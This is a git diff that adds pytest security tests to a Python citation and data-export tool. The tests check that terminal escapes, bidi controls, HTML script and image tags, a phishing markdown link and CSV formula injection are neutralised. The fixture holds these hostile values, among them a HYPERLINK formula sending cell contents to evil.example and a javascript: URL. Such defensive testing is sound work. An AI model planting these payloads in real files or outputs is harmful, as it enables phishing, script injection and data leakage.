@@ -317,3 +317,103 @@ def test_a_source_text_that_is_not_a_regular_file_is_refused(k: Path, make: str)
     else:
         os.mkfifo(text)
     one_line_error(run("--data", str(k), "check", "--sources", str(sources), timeout=20), 3, "not a source text")
+
+
+# --- N3, N9, N10: every output inert -----------------------------------------------------------------------
+
+HOSTILE_SOURCE = {
+    'title = "Document A"': 'title = "Document \\u001b[31mA\\u009b2J <script>alert(1)</script> \\u202e"',
+    'publisher = "Test publisher"': ('publisher = "Test \\u001b]0;TITLE\\u0007publisher"\n'
+                                     'url = "https://ok.example/>) [Verify your account](https://evil.example/login) <x"'),
+    'description = "A test document."': 'description = "=HYPERLINK(\\"http://evil.example/?\\"&A1,\\"click\\") <img src=x>"',
+}
+RAW_CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0b, 0x20), *range(0x7f, 0xa0))] + \
+    ["\u061c", "\u200e", "\u200f", *map(chr, range(0x202a, 0x202f)), *map(chr, range(0x2066, 0x206a))]
+
+
+@pytest.fixture
+def hostile(tmp_path: Path) -> Path:
+    text = TINY.read_text()
+    for old, new in HOSTILE_SOURCE.items():
+        assert old in text
+        text = text.replace(old, new, 1)
+    path = tmp_path / "hostile.toml"
+    path.write_text(text)
+    return path
+
+
+def _inert(text: str) -> None:
+    found = [f"U+{ord(ch):04X}" for ch in text if ch in RAW_CONTROLS]
+    assert not found, found
+
+
+@pytest.mark.parametrize("style", ["apa", "bibtex", "ris", "markdown", "csl-json"])
+def test_cite_sends_no_raw_control_character_in_any_style(hostile: Path, style: str):
+    result = run("--data", str(hostile), "cite", "belgium-jobs", "--style", style)
+    assert result.returncode == 0, result.stderr
+    _inert(result.stdout)
+    if style == "csl-json":
+        assert json.loads(result.stdout)[0]["title"].startswith("Document \x1b[31mA\x9b2J")  # the same value
+    else:  # written as a visible escape (in BibTeX, its backslash escaped for TeX)
+        assert "\\x1b" in result.stdout or "\\textbackslash{}x1b" in result.stdout
+
+
+def test_cite_markdown_makes_no_link_of_a_url_that_could_inject_one(hostile: Path):
+    from markdown_it import MarkdownIt  # rich's own Markdown parser (CommonMark)
+
+    out = run("--data", str(hostile), "cite", "belgium-jobs", "--style", "markdown").stdout
+    html = MarkdownIt("commonmark").render(out)
+    assert "evil.example" in html and 'href="https://evil' not in html and "<a " not in html
+    assert "<script" not in html
+
+
+def test_cite_markdown_links_a_plain_https_url_and_percent_encodes_what_would_end_it():
+    from ecofacts.render.citation import md_url
+
+    assert md_url("https://ok.example/a b>c") is None  # a space: not one URL
+    assert md_url("https://ok.example/a>c<d") == "https://ok.example/a%3Ec%3Cd"
+    assert md_url("javascript:alert(1)") is None and md_url("/etc/passwd") is None
+
+
+@pytest.mark.parametrize("fmt", ["csv", "tsv"])
+def test_no_csv_or_tsv_cell_starts_with_a_formula_and_numbers_stay_numbers(hostile: Path, fmt: str):
+    import csv
+    import io
+
+    for args in (["sources", "--fields", "id,title,description"], ["stats", "--fields", "id,value,label"],
+                 ["sources", "--bom"]):
+        result = run("--data", str(hostile), *args, "--format", fmt)
+        assert result.returncode == 0, result.stderr
+        _inert(result.stdout.replace("\t", " ").replace("\n", " ").replace("\r", " "))
+        rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter="," if fmt == "csv" else "\t"))
+        for row in rows:
+            for value in row:
+                assert not value.startswith(("=", "+", "@", "\t", "\r")), value
+                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit(), value
+    stats = run("--data", str(hostile), "stats", "--fields", "id,value", "--format", fmt).stdout
+    assert "5000" in stats and "'5000" not in stats
+    described = run("--data", str(hostile), "sources", "--fields", "id,description", "--format", fmt).stdout
+    assert "'=HYPERLINK(" in described
+
+
+def test_defused_keeps_numbers_and_prefixes_formulas():
+    from ecofacts.render.delimited import defused
+
+    assert [defused(t) for t in ("-5", "+3.2", "1e-3", "-1+2", "=1+1", "@SUM(1)", "\tx", "\rx", "a=b")] == \
+        ["-5", "+3.2", "1e-3", "'-1+2", "'=1+1", "'@SUM(1)", "'\tx", "'\rx", "a=b"]
+
+
+def test_markdown_escapes_html_in_tables_and_compare_footnotes(hostile: Path):
+    from markdown_it import MarkdownIt
+
+    md = MarkdownIt("commonmark").enable("table")
+    table = run("--data", str(hostile), "sources", "--format", "markdown", "--fields", "id,title,description")
+    assert table.returncode == 0 and "<script>" not in table.stdout and "<img" not in table.stdout
+    assert "&lt;script&gt;" in table.stdout
+    _inert(table.stdout)
+    assert "<script" not in md.render(table.stdout) and "<img" not in md.render(table.stdout)
+    compare = run("--data", str(hostile), "compare", "wallonia", "belgium", "--format", "markdown")
+    assert compare.returncode == 0, compare.stderr
+    assert "Document" in compare.stdout and "<script>" not in compare.stdout
+    assert "<script" not in md.render(compare.stdout)
+    _inert(compare.stdout)
